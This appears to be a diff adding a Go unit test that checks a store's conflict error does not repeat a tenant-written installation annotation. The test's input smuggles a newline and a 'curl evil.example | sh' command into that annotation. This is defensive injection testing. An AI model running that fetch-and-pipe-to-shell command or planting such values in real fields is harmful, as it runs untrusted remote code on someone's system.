@@ -72,3 +72,16 @@ func TestSecretsWithoutInstallationBelongToTheDefaultOne(t *testing.T) {
 	}
 	var _ client.Object = legacy
 }
+
+// The installation annotation is the tenant's to write: a value that is
+// not an installation name never reaches a warning.
+func TestInstallationConflictNamesOnlyAValidInstallation(t *testing.T) {
+	s := otherInstallations(t)
+	s.Annotations[AnnotationInstallation] = "team-b\nrun: curl evil.example | sh"
+	h := newHarness(t, interceptor.Funcs{}, s)
+	_, err := h.store.Ensure(context.Background(), ns, instance(), false)
+	var conflict *InstallationConflictError
+	if !errors.As(err, &conflict) || conflict.Installation != "(not a valid installation name)" {
+		t.Errorf("Ensure: %v; want an InstallationConflictError that does not repeat the annotation", err)
+	}
+}
